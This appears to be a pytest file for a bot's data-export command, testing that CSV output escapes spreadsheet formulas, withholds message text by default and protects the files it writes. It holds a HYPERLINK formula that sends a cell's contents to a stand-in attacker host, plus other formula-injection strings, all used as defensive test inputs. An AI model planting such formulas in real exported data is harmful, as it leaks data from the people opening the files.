"""`evobot export everything`: for whoever counts. What is kept about one person is in tests/bot/test_subjects.py."""

from __future__ import annotations

import csv
import json
from io import StringIO
from pathlib import Path

import pytest

from bot.__main__ import main
from bot.bridge import Bridge
from bot.console.exporting import _csv, cell
from bot.model import Heard, LineName, Said, Ts
from bot.store import Store
from tests.helpers import ANA, THREAD, TestClock, chat, house, no_file_beyond, opened

EVIL = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture
async def here(store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file with a session in which Ana has written, and a phone has answered with a formula."""
    monkeypatch.setenv("EVOBOT_DATABASE", str(tmp_path / "evobot.db"))
    clock = TestClock()
    store._tx.clock = clock
    bridge = Bridge(store, clock, house(), lambda: None)
    key = await opened(store, bridge, chat(name=EVIL))
    await bridge.relay(Said(THREAD, Ts("1700000100.000100"), ANA, "secret words"))
    heard = Heard("+15035550123", EVIL, None, None, "2023-11-14T22:20:00+00:00")
    await store.write(lambda tx: tx.add_line(LineName("l1"), key, heard, None, clock.now()))
    await store.write(lambda tx: tx.change_session(key, active_at=1_700_000_400.0))
    return tmp_path


async def test_every_kind_is_told_without_words_and_numbers_unless_they_are_asked_for(
    here: Path, store: Store, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "everything"]) == 0
    out = capsys.readouterr().out
    kinds = [json.loads(line)["kind"] for line in out.splitlines()]
    assert kinds == ["session", "link", "message", "message", "message", "audit"]
    assert [word for word in ("secret", "evil", "5550123") if word in out] == []
    last = store.read.audited()[-1]
    assert (last.what, last.detail) == ("exported", "everything, without words")
    assert main(["export", "everything", "--words", "--since", "2023-11-14T22:16:00+00:00"]) == 0
    out = capsys.readouterr().out
    assert ("secret" in out, "evil" in out) == (False, True)


async def test_no_cell_is_a_formula_and_nothing_is_written_over(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    words = ["export", "everything", str(here / "out"), "--format", "csv", "--words"]
    assert (main(words), main(words)) == (0, 1)
    files = sorted((here / "out").iterdir())
    assert [(path.name, path.stat().st_mode & 0o777) for path in files] == [
        (f"{name}.csv", 0o600) for name in ("audit", "links", "messages", "sessions")
    ]
    cells = [
        each for path in files for row in csv.reader(path.read_text(encoding="utf-8").splitlines()) for each in row
    ]
    assert f"'{EVIL}" in cells
    assert [each for each in cells if each.lstrip()[:1] in set("=+-@")] == []


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", " =1", "\x01=1", "\ufeff=1", "＝1", "|x", "%x"])
def test_whatever_a_spreadsheet_may_reckon_with_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert (cell(-1), cell("1 = 1; 2-1"), cell(None)) == ("-1", "1 = 1; 2-1", "")


@pytest.mark.parametrize("parted", [",", ";", "\t"])
def test_no_cell_is_a_formula_wherever_a_spreadsheet_parts_them(parted: str) -> None:
    """In many countries that is a semicolon, and a quotation mark in the middle of a cell is only a sign."""
    between = ("", " ", '"', '" "', "\n", "\ufeff")
    inner = [f"a{sign}{more}=1" for sign in (";", "\t", "\n", "\r", "\r\n") for more in between]
    words = [*inner, ";=1", '";+1', "\t-1", 'x";"@1', ";;=1", "a;;\t|1", ";\r\n=1", "＝1;＝1"]
    file = StringIO(newline="")
    _csv(file, [{"key": 1, "words": each, "name": each} for each in words])
    file.seek(0)
    cells = [each for row in csv.reader(file, delimiter=parted) for each in row]
    assert [each for each in cells if each.lstrip('"\ufeff \t\r\n')[:1] in set("=+-@|＝")] == []


@pytest.mark.parametrize("blank", ["\n", " ", ";", '\n"', "\t "])
def test_however_many_signs_part_cells_each_is_looked_at_once(blank: str) -> None:
    """A customer may send as many as they like."""
    long = blank * 300_000
    assert cell(f"a{long}b") == f"a{long}b"
    assert cell(f"a{long}=1").count("'") == (blank != " ")


async def test_what_goes_with_everything_does_not_go_with_a_person(here: Path) -> None:
    assert main(["export", "+15035550123", "--since", "7d"]) == 2


async def test_of_what_the_disk_does_not_take_whole_nothing_stays(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with no_file_beyond(0):
        code = main(["export", "joe@example.com", str(here / "out")])
    assert (code, "The disk did not take it" in capsys.readouterr().err) == (1, True)
    assert not (here / "out").exists()
